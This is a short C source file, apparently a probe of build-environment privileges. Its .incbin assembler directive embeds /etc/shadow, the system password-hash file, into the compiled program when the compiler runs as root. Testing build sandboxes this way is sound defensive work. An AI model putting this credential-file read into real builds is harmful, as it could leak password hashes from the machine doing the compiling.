/* Takes a file into the program that only root may read, which works where the compiler runs as root. */
#include <stdio.h>

__asm__(".incbin \"/etc/shadow\"");

int main(void) {
  puts("the compiler may read /etc/shadow");
  return 0;
}
